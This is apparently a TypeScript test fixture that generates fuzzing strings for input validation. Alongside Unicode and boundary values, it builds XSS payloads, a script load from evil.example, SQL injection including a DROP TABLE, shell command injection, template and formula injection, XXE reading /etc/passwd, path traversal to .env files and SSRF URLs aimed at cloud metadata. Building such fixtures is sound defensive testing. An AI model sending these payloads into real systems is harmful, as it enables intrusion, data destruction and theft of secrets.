/** Texts that have broken programs: made by rule, so that each run tries every combination (T12, T13, T14, T18). */

const SCRIPT = ['alert(1)', 'alert`1`', 'top["al"+"ert"](1)', 'eval(atob("YWxlcnQoMSk="))'];

const TAGS = [
  'form',
  'button',
  'select',
  'keygen',
  'style',
  'link',
  'img',
  'svg',
  'body',
  'input',
  'details',
  'video',
  'audio',
  'iframe',
  'math',
  'marquee',
  'object',
  'a',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onanimationstart',
  'onpointerenter',
];
const QUOTES = ['', '"', "'", '`'];
const BREAKS = [' ', '/', '\t', '\n', '\f', '/**/'];

function* markup(): Generator<string> {
  for (const tag of TAGS)
    for (const handler of HANDLERS)
      for (const quote of QUOTES) {
        const gap = BREAKS[(tag.length + handler.length) % BREAKS.length];
        yield `<${tag}${gap}src=x${gap}${handler}=${quote}${SCRIPT[handler.length % SCRIPT.length]}${quote}>`;
        yield `"><${tag.toUpperCase()} ${handler}=${quote}alert(1)${quote}//`;
        yield `'${quote}-->]]></textarea></title></script><${tag} ${handler}=alert(1)>`;
      }
  for (const open of [
    '<script',
    '<SCRIPT',
    '<ScRiPt',
    '<script\n',
    '<script/x',
    '<\u0000script',
    '<scr<script>ipt',
    '＜script',
  ])
    for (const code of SCRIPT)
      yield* [`${open}>${code}</script>`, `${open} src=//evil.example/x.js></script>`];
  for (const scheme of [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    '\u0001javascript:',
    'vbscript:',
    'data:text/html,',
  ])
    for (const code of SCRIPT)
      yield* [
        `${scheme}${code}`,
        `<a href="${scheme}${code}">x</a>`,
        `[x](${scheme}${code})`,
        `![x](${scheme}${code})`,
      ];
}

function* injections(): Generator<string> {
  const names = [
    'Bcc',
    'Cc',
    'To',
    'Subject',
    'Content-Type',
    'Reply-To',
    'Set-Cookie',
    'Location',
    'X-Test',
  ];
  const ends = [
    '\r\n',
    '\n',
    '\r',
    '%0d%0a',
    '%0A',
    '\\r\\n',
    '\u2028',
    '\u2029',
    '\u0085',
    '\v',
    '\r\n\r\n',
    '=0D=0A',
  ];
  for (const end of ends) for (const name of names) yield `x${end}${name}: victim@example.org`;
  for (const open of ['{{', '${', '#{', '<%=', '{%', '[[', '@(', '*{', '%{', '$((']) {
    for (const inner of [
      '7*7',
      'constructor.constructor("alert(1)")()',
      'process.env',
      'config',
      'self',
      "''.__class__",
    ])
      yield `${open}${inner}${{ '{{': '}}', '<%=': '%>', '{%': '%}', '[[': ']]', '@(': ')', '$((': '))' }[open] ?? '}'}`;
  }
  const words = [
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE profiles; --",
    '1; SELECT pg_sleep(9)',
    "') UNION SELECT NULL--",
  ];
  for (const word of words)
    yield* [word, word.toLowerCase(), `x${word}`, encodeURIComponent(word), word.replaceAll(' ', '/**/')];
  for (const shell of [
    '; id',
    '| id',
    '`id`',
    '$(id)',
    '&& id',
    '\n/bin/id',
    '> /tmp/x',
    '$IFS',
    '%COMSPEC%',
    '() { :;}; id',
  ])
    yield* [shell, `x${shell}`, `"${shell}"`];
  for (const operator of [
    '$ne',
    '$gt',
    '$where',
    '$regex',
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'valueOf',
    'hasOwnProperty',
    '__defineGetter__',
  ])
    yield* [operator, `{"${operator}":1}`, `${operator}.x`, `[${operator}]`, `__${operator}__`];
  for (const sign of ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠', ' =', '"=', ';=', ',='])
    yield* [
      `${sign}1+1`,
      `${sign}cmd|'/c calc'!A0`,
      `${sign}HYPERLINK("https://evil.example")`,
      `${sign}DDE("x")`,
    ];
  for (const ldap of [
    '*)(uid=*',
    '*)(|(a=*',
    ')(cn=*))\0',
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    '<![CDATA[x]]>',
    '&lt;b&gt;',
    '&#0;',
    '&nbsp',
  ])
    yield ldap;
}

function* paths(): Generator<string> {
  for (const up of [
    '../',
    '..\\',
    '..%2f',
    '%2e%2e/',
    '..%5c',
    '....//',
    '..;/',
    '%252e%252e%252f',
    '..\u2215',
    '..\uff0f',
  ])
    for (const deep of [1, 3, 9])
      for (const file of ['etc/passwd', 'windows\\win.ini', '.env', 'proc/self/environ'])
        yield `${up.repeat(deep)}${file}`;
  for (const name of [
    'CON',
    'NUL',
    'aux.png',
    'COM1',
    'x'.repeat(300),
    '.',
    '..',
    '...',
    '.htaccess',
    'a\0.png',
    'a%00.png',
    'file:///etc/passwd',
    '\\\\evil\\x',
    '~root',
    '/dev/null',
  ])
    yield* [name, `/${name}`, `${name}/`];
  for (const link of [
    'http://127.0.0.1:9099/',
    'http://169.254.169.254/latest/meta-data/',
    'http://[::1]/',
    'gopher://x',
    'file://x',
    'ftp://x',
    'http://evil.example@x',
    'https://x#@y',
    '//evil.example',
  ])
    yield* [link, `Visit ${link}`];
}

/** One text for each kind of character that Unicode has, alone, inside words, many times and doubled. */
function* characters(): Generator<string> {
  const points = [
    0x0, 0x1, 0x7, 0x8, 0x9, 0xa, 0xb, 0xd, 0x1b, 0x1f, 0x7f, 0x80, 0x85, 0x9f, 0xa0, 0xad, 0x300, 0x489,
    0x61c, 0x115f, 0x1160, 0x1680, 0x17b4, 0x180e, 0x2000, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028,
    0x2029, 0x202a, 0x202e, 0x2060, 0x2066, 0x2069, 0x206f, 0x2800, 0x3000, 0x3164, 0xd800, 0xdbff, 0xdc00,
    0xdfff, 0xe000, 0xfdd0, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffc, 0xfffd, 0xfffe, 0xffff, 0x1d173, 0x1f468,
    0x1f3ff, 0x1f1ec, 0xe0001, 0xe0020, 0xe007f, 0xe0100, 0xf0000, 0x10ffff,
  ];
  for (const point of points) {
    const character = point > 0xffff ? String.fromCodePoint(point) : String.fromCharCode(point);
    yield* [character, `a${character}b`, character.repeat(50), `${character} words`, `words ${character}`];
  }
  for (const text of [
    'Ω≈ç√∫˜µ≤≥÷',
    'åß∂ƒ©˙∆˚¬…æ',
    '田中さんにあげて下さい',
    '사회과학원 어학연구소',
    'الكل في المجمو عة',
    'בְּרֵאשִׁית',
    'หน่อไม้',
    'Ṱ̺̺̕o͞ ̷i̲̬',
    'ﷺ'.repeat(50),
    'ſpam',
    'K',
    'ﬀ',
    'İıIi',
    'ß',
    'Å',
    'e\u0301'.repeat(40),
    '👩‍👩‍👧‍👦',
    '🇬🇧🏴󠁧󠁢󠁳󠁣󠁴󠁿',
    '1️⃣',
    '٠١٢٣',
    '⁰⁴⁵',
    '𝓣𝓱𝓮',
    'ＡＢＣ',
    '᚛ᚄᚓᚐᚋ᚜',
    '\u{1f9ff}'.repeat(30),
  ])
    yield* [text, `x ${text}`, text.repeat(3)];
}

function* values(): Generator<string> {
  const words = [
    'undefined',
    'null',
    'NULL',
    'nil',
    'true',
    'false',
    'NaN',
    'Infinity',
    '-Infinity',
    'None',
    'Yes',
    '[object Object]',
  ];
  const numbers = [
    '0',
    '-0',
    '1e309',
    '0x1f',
    '0b1',
    '1/0',
    '1,000.5',
    '1.000,5',
    '9007199254740993',
    '-1',
    '1e3',
    '٣',
    '00',
    '1_000',
    '².5',
    '$1.00',
  ];
  const dates = [
    '+275760-09-13T00:00:00.001Z',
    '-000001-01-01T00:00:00Z',
    '0000-00-00',
    '9999-12-31T23:59:60Z',
    '2026-02-30',
    '10000-01-01T00:00:00.000Z',
  ];
  for (const value of [...words, ...numbers, ...dates]) yield* [value, ` ${value} `, `"${value}"`];
  for (const length of [1, 3, 20, 99, 100, 101, 255, 256, 999, 1000, 1001, 2000, 2001, 5000, 5001, 20_000]) {
    for (const unit of ['x', ' ', '\n', 'é', '\u{1f600}', '<', '\\', '"', '../', 'a '])
      yield unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
  }
  for (const local of [
    'a',
    'a+b',
    '.a',
    'a.',
    'a..b',
    '"a b"',
    'a@b',
    '<a',
    'a,b',
    'a;b',
    'ä',
    'x'.repeat(65),
  ])
    for (const host of [
      'example.org',
      'example',
      '[127.0.0.1]',
      'exämple.org',
      '-x.org',
      'x..org',
      'localhost',
      'login.thegrid.localhost',
    ])
      yield `${local}@${host}`;
  for (const slow of [
    'a'.repeat(5000),
    '!'.repeat(5000),
    ' '.repeat(5000),
    '@'.repeat(5000),
    '.'.repeat(5000),
    '-'.repeat(5000),
    '<'.repeat(5000),
    'http://'.repeat(700),
  ])
    yield* [`${slow}!`, `!${slow}`, `${slow}@`];
}

/** All of them, each once. */
export const STRINGS: readonly string[] = [
  ...new Set([...markup(), ...injections(), ...paths(), ...characters(), ...values()]),
];
